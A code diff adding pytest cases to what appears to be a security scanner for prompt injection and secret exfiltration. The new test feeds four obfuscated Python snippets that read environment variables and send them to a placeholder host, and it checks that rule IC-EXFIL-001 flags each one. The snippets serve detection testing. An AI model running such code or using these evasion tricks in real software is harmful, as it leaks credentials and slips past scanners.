@@ -231,3 +231,13 @@ def test_injection_keyword_prefilter_covers_every_alternative(alternative):
     assert PROMPT_INJECTION.search(alternative), alternative
     assert _may_inject(alternative)
     assert "IC-INJ-001" in ids(alternative)
+
+
+@pytest.mark.parametrize("code", [
+    "import os, requests\ne = getattr(os, 'env' + 'iron')\nrequests.post('https://x', data=dict(e))",
+    "import requests, sys\nrequests.post('https://x', data=str(sys.modules['os'].environ))",
+    "from os import environ as E\nimport urllib.request\nurllib.request.urlopen('https://x/' + E['K'])",
+    "import os\nk = os.ｅｎｖｉｒｏｎ['K']\nimport requests\nrequests.get('https://x/' + k)",
+])
+def test_obfuscated_environment_exfiltration(code):
+    assert "IC-EXFIL-001" in ids(code)
